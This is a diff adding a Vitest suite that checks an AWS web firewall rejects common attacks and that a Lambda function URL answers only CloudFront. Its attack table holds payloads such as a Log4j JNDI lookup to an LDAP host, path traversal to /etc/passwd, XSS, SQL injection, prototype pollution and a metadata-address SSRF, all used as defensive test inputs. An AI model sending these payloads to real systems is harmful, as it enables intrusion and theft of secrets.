@@ -1,0 +1,98 @@
+import { describe, expect, it } from 'vitest';
+import { contract } from '#shared/contract/index.ts';
+import { viewerRequest } from './front/caller.ts';
+import { deployed, templates } from './front/deployed.ts';
+import type { ViewerRequest } from './front/edge.ts';
+import { callFunctionUrl } from './front/function-url.ts';
+import { edgeOf } from './front/gateway.ts';
+import { ofType, withChange } from './front/templates.ts';
+
+const me = viewerRequest(contract.auth.me, {});
+const login = viewerRequest(contract.auth.login, { email: 'a@example.it', password: 'x' });
+const SCRIPT = '<script>alert(1)</script>';
+const LOOK_UP = `\${jndi:ldap://203.0.113.66/a}`;
+
+/** What AWS's rules for bad inputs and common attacks look for, by what the front does with it. */
+const ATTACKS: Readonly<Record<string, Partial<ViewerRequest>>> = {
+  'a look-up of Log4j in a header': { headers: { ...me.headers, 'user-agent': LOOK_UP } },
+  'a look-up of Log4j in the query': { query: `x=${encodeURIComponent(LOOK_UP)}` },
+  'a serialized Java object': { ...login, body: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' },
+  'a method of WebDAV': { method: 'PROPFIND' },
+  'a path out of the folder': { path: '/api/../../../../etc/passwd' },
+  'an encoded path out of the folder': { path: '/api/user/%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
+  'a file of secrets': { path: '/api/.env' },
+  'an administration of others': { path: '/api/wp-admin/setup-config.php' },
+  'a script in the query': { query: `x=${encodeURIComponent(SCRIPT)}` },
+  'a script in the path': { path: `/api/${encodeURIComponent(SCRIPT)}` },
+  'a script in a body': { ...login, body: JSON.stringify({ email: SCRIPT, password: 'x' }) },
+  'SQL in a body': { ...login, body: JSON.stringify({ email: "' OR 1=1 --", password: 'x' }) },
+  'a prototype in a body': {
+    ...login,
+    body: '{"__proto__":{"role":"SUPER_ADMIN"},"email":"a@example.it","password":"x"}',
+  },
+  'an address of the account’s own metadata': { query: 'url=http://169.254.169.254/latest/' },
+  'a body that is too large': { ...login, body: JSON.stringify({ email: 'x'.repeat(70_000) }) },
+  'no user agent': { headers: {} },
+};
+
+describe('an attack that the firewall’s rules for contents would block', () => {
+  it.each(Object.entries(ATTACKS))('changes nothing and is not echoed: %s', async (_, attack) => {
+    const { account } = await deployed();
+    const before = await account.items();
+    const { status, body } = await edgeOf(account).answer({ ...me, ...attack });
+    expect(status).toBeGreaterThanOrEqual(400);
+    expect(status).toBeLessThan(500);
+    expect(body).not.toMatch(/jndi|script|passwd|1=1|stack|node_modules/i);
+    const rateLimits = (items: readonly string[]) => items.filter(one => !one.includes('RATE'));
+    expect(rateLimits(await account.items())).toEqual(rateLimits(before));
+  });
+});
+
+describe('the URL of the polls', () => {
+  const [url] = ofType(templates, 'AWS::Lambda::Url');
+  if (!url) throw new Error('There is no URL');
+  const poll = viewerRequest(contract.polling.read, {});
+
+  it('answers nobody but CloudFront: a call without its signature doesn’t reach the function', async () => {
+    const { account, player } = await deployed();
+    const request = { ...poll, cookies: player.cookies };
+    const direct = await callFunctionUrl(account, url, { request, isSigned: false });
+    expect(direct).toMatchObject({ status: 403, body: '{"Message":"Forbidden"}' });
+    // It would, if the template didn't ask for one; the origin's secret is the second lock.
+    const open = withChange(templates, 'AWS::Lambda::Url', () => ({ AuthType: 'NONE' }));
+    const [openUrl] = ofType(open, 'AWS::Lambda::Url');
+    if (!openUrl) throw new Error('There is no URL');
+    const reached = await callFunctionUrl(account, openUrl, { request, isSigned: false });
+    expect(JSON.parse(reached.body)).toMatchObject({ code: 'forbidden' });
+  });
+
+  it('answers CloudFront because of a permission, which is there before CloudFront asks', async () => {
+    const { account, player } = await deployed();
+    const request = { ...poll, cookies: player.cookies };
+    const without = withChange(templates, 'AWS::Lambda::Permission', () => ({
+      Principal: 'other',
+    }));
+    const [allowed, refused] = [
+      await edgeOf(account).answer(request),
+      await account.with(without, () => edgeOf(account).answer(request)),
+    ];
+    expect([allowed.status, refused.status]).toEqual([200, 403]);
+    const permissions = ofType(templates, 'AWS::Lambda::Permission').filter(
+      ({ Properties }) => Properties.Principal === 'cloudfront.amazonaws.com',
+    );
+    expect(permissions.map(({ stack }) => stack)).toEqual(['polls', 'polls']);
+    for (const { Properties } of permissions)
+      expect(JSON.stringify(Properties.SourceArn)).toContain('AWS::AccountId');
+  });
+
+  it('gets no write, and nothing but polls', async () => {
+    const { account, player } = await deployed();
+    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
+      const request = { ...poll, method, cookies: player.cookies };
+      expect((await edgeOf(account).answer(request)).status).toBe(403);
+    }
+    const seen = viewerRequest(contract.polling.seen, { id: 1 }, { cookies: player.cookies });
+    // By the gateway, as any write.
+    expect((await edgeOf(account).answer(seen)).status).toBe(404);
+  });
+});
